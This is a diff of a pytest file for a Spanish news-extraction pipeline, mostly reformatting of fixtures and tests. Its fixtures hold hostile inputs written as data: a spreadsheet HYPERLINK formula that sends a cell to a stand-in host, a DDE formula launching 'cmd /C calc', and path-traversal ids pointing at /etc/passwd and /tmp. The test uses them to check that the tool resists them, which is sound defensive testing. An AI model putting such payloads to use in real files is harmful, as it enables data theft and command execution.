@@ -28,9 +28,11 @@ from tests.conftest import ROOT
 from tests.test_ingest_html import PARAGRAPHS, TITLE, news_page
 
 ARTICLE = "\n\n".join(PARAGRAPHS)
-ENGLISH = ("The president of Venezuela, Nicolás Maduro, met on Thursday in Caracas with the Russian foreign minister, "
-           "Sergei Lavrov, and signed energy cooperation agreements worth 1.5 billion dollars. Trade between the two "
-           "countries grew by 12 percent in 2021, according to a statement from the foreign ministry.")
+ENGLISH = (
+    "The president of Venezuela, Nicolás Maduro, met on Thursday in Caracas with the Russian foreign minister, "
+    "Sergei Lavrov, and signed energy cooperation agreements worth 1.5 billion dollars. Trade between the two "
+    "countries grew by 12 percent in 2021, according to a statement from the foreign ministry."
+)
 ROW = {"id": "n-001", "titulo": TITLE, "fecha": "2022-01-20", "texto": ARTICLE, "url": "https://diario.example/n-001"}
 FORMULA_TITLE = '=HYPERLINK("http://x.example/robar?d="&A1,"Ver nota")'
 FORMULA_URL = "@SUM(1+1)*cmd|' /C calc'!A0"
@@ -64,8 +66,10 @@ EXPECTED: dict[str, tuple[str, str | None]] = {
     "tables/rows.json#n-001": ("ok", None),
     "tables/rows.jsonl#n-001": ("ok", None),
     "tables/rows.jsonl#row2": ("error", "line 2 is not valid JSON: Expecting property name enclosed in double quotes"),
-    "tables/rows.jsonl#n-003": ("error", "row has no text field (looked for text, body, content, article, …; columns: id, "
-                                "titulo)"),
+    "tables/rows.jsonl#n-003": (
+        "error",
+        "row has no text field (looked for text, body, content, article, …; columns: id, titulo)",
+    ),
     "tables/rows.jsonl#n-004": ("skipped", "language is 'en', not es (use --all-languages to read it anyway)"),
     "tables/rows.jsonl#../../outside": ("ok", None),
     "tables/rows.jsonl#formula": ("ok", None),
@@ -103,14 +107,23 @@ def build_corpus(root: Path) -> None:
     pd.DataFrame(rows).to_parquet(tables / "rows.parquet")
     pd.DataFrame(rows[:1]).to_csv(tables / "rows_cp1252.csv", index=False, sep=";", encoding="cp1252")
     (tables / "rows.json").write_text(json.dumps({"articles": rows[:1]}, ensure_ascii=False), encoding="utf-8")
-    jsonl = [json.dumps(ROW, ensure_ascii=False), "{'id': 'n-002', texto: sin comillas}",
-             json.dumps({"id": "n-003", "titulo": "Sin campo de texto"}),
-             json.dumps({"id": "n-004", "texto": ENGLISH}),
-             # A row whose id, title and text try to steer where files go.
-             json.dumps({"id": "../../outside", "titulo": "../../../tmp/evil.csv",
-                         "texto": ARTICLE + "\n\n../../outputs/documents.csv /etc/passwd", "url": "file:///etc/passwd"}),
-             # Cells a spreadsheet would run as formulas.
-             json.dumps({"id": "formula", "titulo": FORMULA_TITLE, "texto": ARTICLE, "url": FORMULA_URL})]
+    jsonl = [
+        json.dumps(ROW, ensure_ascii=False),
+        "{'id': 'n-002', texto: sin comillas}",
+        json.dumps({"id": "n-003", "titulo": "Sin campo de texto"}),
+        json.dumps({"id": "n-004", "texto": ENGLISH}),
+        # A row whose id, title and text try to steer where files go.
+        json.dumps(
+            {
+                "id": "../../outside",
+                "titulo": "../../../tmp/evil.csv",
+                "texto": ARTICLE + "\n\n../../outputs/documents.csv /etc/passwd",
+                "url": "file:///etc/passwd",
+            }
+        ),
+        # Cells a spreadsheet would run as formulas.
+        json.dumps({"id": "formula", "titulo": FORMULA_TITLE, "texto": ARTICLE, "url": FORMULA_URL}),
+    ]
     (tables / "rows.jsonl").write_text("\n".join(jsonl) + "\n", encoding="utf-8")
 
     failures = root / "failures"
@@ -125,13 +138,13 @@ def build_corpus(root: Path) -> None:
     with open(failures / "big.txt", "wb") as f:  # sparse: no disk used, refused by size before reading
         f.truncate(MAX_BYTES + 1)
     os.symlink(root, failures / "loop")
-    (root / "text.md").write_text(f"# {TITLE}\n\n{ARTICLE}\n\nPor Ana Gómez\n\nLee también: Sube el petróleo\n",
-                                  encoding="utf-8")
+    (root / "text.md").write_text(f"# {TITLE}\n\n{ARTICLE}\n\nPor Ana Gómez\n\nLee también: Sube el petróleo\n", encoding="utf-8")
 
 
 def run_cli(*args: str, stdin: bytes | None = None, cwd: Path = ROOT) -> subprocess.CompletedProcess:
-    return subprocess.run([sys.executable, "-m", "pipeline", "extract", *args], input=stdin, capture_output=True,
-                          cwd=cwd, timeout=600)
+    return subprocess.run(
+        [sys.executable, "-m", "pipeline", "extract", *args], input=stdin, capture_output=True, cwd=cwd, timeout=600
+    )
 
 
 @pytest.fixture(scope="module")
@@ -181,8 +194,11 @@ def _entity_set(mentions: pd.DataFrame, name: str) -> list[tuple]:
 # Each ok document and the one whose clean text it must equal: the article alone
 # (text files in any encoding, table rows whose title is metadata), or the article
 # under its title heading (the HTML page and the markdown file).
-SAME_TEXT = {name: "text.md" if name == "pages/article.html" else "encodings/utf8.txt"
-             for name, (status, _) in EXPECTED.items() if status == "ok" and name not in ("encodings/utf8.txt", "text.md")}
+SAME_TEXT = {
+    name: "text.md" if name == "pages/article.html" else "encodings/utf8.txt"
+    for name, (status, _) in EXPECTED.items()
+    if status == "ok" and name not in ("encodings/utf8.txt", "text.md")
+}
 
 
 @pytest.mark.parametrize(("name", "reference"), list(SAME_TEXT.items()), ids=list(SAME_TEXT))
@@ -220,7 +236,7 @@ def test_corpus_raw_offsets_point_at_each_mention_in_the_text_as_read(corpus_run
     for name, group in mentions.groupby("name"):
         raw = _raw_text(corpus, name, documents.set_index("name").loc[name])
         for m in group.itertuples():
-            span = repair_text(raw[m.raw_start:m.raw_end])
+            span = repair_text(raw[m.raw_start : m.raw_end])
             chars = iter(span)
             assert span[:1] == m.text[:1] and span[-1:] == m.text[-1:], (name, m.text, span)
             assert all(c in chars for c in m.text), (name, m.text, span)
@@ -231,14 +247,18 @@ def test_corpus_raw_offsets_point_at_each_mention_in_the_text_as_read(corpus_run
 @pytest.mark.parametrize(
     ("name", "column", "value"),
     [
-        ("pages/article.html", "title", TITLE), ("pages/article.html", "published", "2022-01-20"),
+        ("pages/article.html", "title", TITLE),
+        ("pages/article.html", "published", "2022-01-20"),
         ("pages/article.html", "published_from", "metadata"),
         ("pages/article.html", "url", "https://diario.example/internacional/maduro-lavrov"),
-        ("tables/rows.jsonl#n-001", "title", TITLE), ("tables/rows.jsonl#n-001", "published", "2022-01-20"),
+        ("tables/rows.jsonl#n-001", "title", TITLE),
+        ("tables/rows.jsonl#n-001", "published", "2022-01-20"),
         ("tables/rows.jsonl#n-001", "url", "https://diario.example/n-001"),
         ("tables/rows.parquet#n-001", "published_from", "metadata"),
-        ("encodings/utf8.txt", "language", "es"), ("failures/english.txt", "language", "en"),
-        ("encodings/utf8.txt", "dateline_place", "Caracas"), ("encodings/utf8.txt", "agency", "EFE"),
+        ("encodings/utf8.txt", "language", "es"),
+        ("failures/english.txt", "language", "en"),
+        ("encodings/utf8.txt", "dateline_place", "Caracas"),
+        ("encodings/utf8.txt", "agency", "EFE"),
         ("text.md", "title", TITLE),
     ],
 )
@@ -252,7 +272,8 @@ def test_corpus_text_cannot_steer_where_files_are_written(corpus_run):
     written = set(after) - set(corpus_run["before"])
     assert all(p.parts[0] == "out" for p in written)
     assert {p for p in written if ".generations" not in p.parts} == {Path("out")} | {
-        Path("out") / f"{t}.{f}" for t in ("documents", "mentions", "entities") for f in ("csv", "parquet")}
+        Path("out") / f"{t}.{f}" for t in ("documents", "mentions", "entities") for f in ("csv", "parquet")
+    }
     assert not (base.parent / "outside").exists() and not Path("/tmp/evil.csv").exists()
 
 
@@ -272,8 +293,10 @@ def test_corpus_strict_stops_at_the_first_failure_and_writes_nothing(tmp_path):
     build_corpus(tmp_path / "corpus")
     proc = run_cli(str(tmp_path / "corpus"), "--out", str(tmp_path / "out"), "--strict")
     assert proc.returncode == 1
-    assert proc.stderr.decode().strip() == (f"error: {tmp_path / 'corpus' / 'failures/big.txt'}: "
-                                            f"{EXPECTED['failures/big.txt'][1]} (--strict: stopped, nothing written)")
+    assert proc.stderr.decode().strip() == (
+        f"error: {tmp_path / 'corpus' / 'failures/big.txt'}: "
+        f"{EXPECTED['failures/big.txt'][1]} (--strict: stopped, nothing written)"
+    )
     assert not (tmp_path / "out").exists()
 
 
@@ -302,13 +325,19 @@ def test_corpus_ctrl_c_mid_run_leaves_the_previous_tables_intact(tmp_path):
         pytest.skip("needs Linux /proc/<pid>/syscall to know when the run is under way")
     out = tmp_path / "out"
     out.mkdir()
-    previous = {f"{t}.{f}": f"previous {t} {f}\n".encode() for t in ("documents", "mentions", "entities")
-                for f in ("csv", "parquet")}
+    previous = {
+        f"{t}.{f}": f"previous {t} {f}\n".encode() for t in ("documents", "mentions", "entities") for f in ("csv", "parquet")
+    }
     for name, data in previous.items():
         (out / name).write_bytes(data)
     (tmp_path / "a.txt").write_text(ARTICLE, encoding="utf-8")
-    proc = subprocess.Popen([sys.executable, "-m", "pipeline", "extract", str(tmp_path / "a.txt"), "-", "--out", str(out)],
-                            stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, cwd=ROOT)
+    proc = subprocess.Popen(
+        [sys.executable, "-m", "pipeline", "extract", str(tmp_path / "a.txt"), "-", "--out", str(out)],
+        stdin=subprocess.PIPE,
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        cwd=ROOT,
+    )
     try:
         for _ in range(1200):  # the model loads, a.txt is read, then the run waits on standard input
             if _waiting_on_stdin(proc.pid) or proc.poll() is not None:
@@ -341,12 +370,25 @@ def test_cli_field_option_names_the_columns(tmp_path, nlp, monkeypatch, capsys):
     monkeypatch.setattr("pipeline.run.default_nlp", lambda: nlp)
     row = {"resumen": "Breve.", "nota": ARTICLE, "cuando": "2021-03-04", "clave": "x9"}
     (tmp_path / "rows.jsonl").write_text(json.dumps(row, ensure_ascii=False), encoding="utf-8")
-    code = main(["extract", str(tmp_path / "rows.jsonl"), "--out", str(tmp_path / "out"), "--field", "text=nota",
-                 "--field", "date=cuando", "--field", "id=clave"])
+    code = main(
+        [
+            "extract",
+            str(tmp_path / "rows.jsonl"),
+            "--out",
+            str(tmp_path / "out"),
+            "--field",
+            "text=nota",
+            "--field",
+            "date=cuando",
+            "--field",
+            "id=clave",
+        ]
+    )
     assert code == 0, capsys.readouterr()
     docs = pd.read_csv(tmp_path / "out" / "documents.csv")
     assert list(zip(docs.source, docs.status, docs.published, strict=True)) == [
-        (f"{tmp_path / 'rows.jsonl'}#x9", "ok", "2021-03-04")]
+        (f"{tmp_path / 'rows.jsonl'}#x9", "ok", "2021-03-04")
+    ]
 
 
 @pytest.mark.parametrize("value", ["body=nota", "text", "text=", "=nota"])
